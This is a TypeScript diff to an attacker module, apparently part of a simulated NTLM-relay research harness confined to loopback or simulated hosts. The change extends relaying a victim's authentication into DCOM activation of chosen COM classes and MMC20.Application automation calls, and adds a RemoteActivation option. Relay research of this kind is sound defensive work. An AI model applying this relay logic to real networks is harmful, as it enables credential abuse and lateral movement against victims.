@@ -1,4 +1,4 @@
-import { activateOver } from '../client/activate.js';
+import { type ActivationMethod, activateOver } from '../client/activate.js';
 import { Automation } from '../client/automation.js';
 import { exporterTargets, type Target } from '../client/bindings.js';
 import { type Connector, RpcConnection } from '../client/connection.js';
@@ -10,7 +10,13 @@ import { CLIENT_PROFILES } from '../client/profiles.js';
 import { Refused } from '../client/refused.js';
 import { type Exporter, RemoteInterface } from '../client/remote-interface.js';
 import { pinging } from '../client/resolver-client.js';
-import { type ActivationReply, IRemoteSCMActivator, IRemUnknown, type OBJREF } from '../codec/dcom/index.js';
+import {
+  type ActivationReply,
+  IActivation,
+  IRemoteSCMActivator,
+  IRemUnknown,
+  type OBJREF,
+} from '../codec/dcom/index.js';
 import { isNtlm } from '../codec/ntlm/index.js';
 import { IDispatch } from '../codec/oaut/index.js';
 import { type Pdu, RPC_C_AUTHN } from '../codec/rpce/index.js';
@@ -32,6 +38,17 @@ export const CLSID_MMC20 = '49b2791a-b1ae-4c90-9b8e-e860ba07f889';
 export const STAGES = ['lured', 'bound', 'activated', 'exporter reached', 'invoked'] as const;
 export type Stage = (typeof STAGES)[number];
 
+/** A class that somebody asks for: what the victim's application wants of the lure, and the attacker of the server. */
+export interface WantedClass {
+  readonly clsid: string;
+  readonly iids: readonly string[];
+  /** RemoteCreateInstance where absent. */
+  readonly method?: ActivationMethod;
+}
+
+/** Automation that the attacker goes on to call, whatever interfaces the victim asked for. */
+export const MMC20: WantedClass = { clsid: CLSID_MMC20, iids: [IDispatch.uuid] };
+
 export interface AttackerOptions {
   /** Confined to loopback or simulated hosts. */
   readonly network: Network;
@@ -39,6 +56,8 @@ export interface AttackerOptions {
   readonly address: string;
   readonly target: Target;
   readonly variant: RelayVariant;
+  /** Of any class but MMC20.Application the activation is all that he is after. That one where absent. */
+  readonly wanted?: WantedClass;
   /** Has a victim authenticate, and gives that authentication. */
   readonly lure: () => Promise<RelayedHandshake>;
   readonly random: RandomBytes;
@@ -68,10 +87,12 @@ export class Attacker {
     this.#options = options;
   }
 
-  /** Activates, unless a reference is known, and calls. What stops it is an outcome. */
+  /** Activates, unless a reference is known, and calls where that is what he is after. What stops it is an outcome. */
   async attack(known?: ActivationReply): Promise<CallOutcome> {
     try {
       const reply = known ?? (await this.#activate());
+      if (known === undefined && goalOf(this.#options.wanted) === 'activated')
+        return { accepted: true, status: 0, text: 'activated' };
       await this.#invoke(reply);
       this.stage = 'invoked';
       return { accepted: true, status: 0, text: 'invoked' };
@@ -84,18 +105,18 @@ export class Attacker {
     for (const connection of this.#connections) connection.close();
   }
 
-  /** [MS-DCOM] 3.1.2.5.2.3.3: RemoteCreateInstance of MMC20.Application as the victim. */
+  /** [MS-DCOM] 3.1.2.5.2.3: the activation, as the victim. */
   async #activate(): Promise<ActivationReply> {
-    const { target, random, variant } = this.#options;
+    const { target, random, variant, wanted = MMC20 } = this.#options;
+    const { clsid, iids, method = 'RemoteCreateInstance' } = goalOf(wanted) === 'invoked' ? MMC20 : wanted;
     const { connection, security } = await this.#connect(target);
     const contexts = new ContextConnection({ connection, security });
-    await this.#bound(() => contexts.context(IRemoteSCMActivator));
+    const older = method === 'RemoteActivation';
+    await this.#bound(() => contexts.context(older ? IActivation : IRemoteSCMActivator));
     this.stage = 'bound';
     const { outcome, reply } = await activateOver(contexts, {
-      clsid: CLSID_MMC20,
-      iids: [IDispatch.uuid],
-      method: 'RemoteCreateInstance',
-      flags: 1,
+      ...{ clsid, iids, method },
+      flags: older ? 0 : 1,
       random,
       authnLevel: variant.bindLevel,
     });
@@ -182,6 +203,10 @@ export class Attacker {
     if (!done) context.next = await this.#fromVictim(handshake);
   }
 }
+
+/** What a relay is after: a command where the class is known to take one, else the activation itself. */
+export const goalOf = (wanted: WantedClass = MMC20): 'activated' | 'invoked' =>
+  wanted.clsid === CLSID_MMC20 ? 'invoked' : 'activated';
 
 /** [MS-SPNG] 3.1.5.1: a mechListMIC is the first thing that the victim signs. */
 const hasMic = (token: Uint8Array): boolean => !isNtlm(token) && decodeNegToken(token).mechListMIC !== undefined;
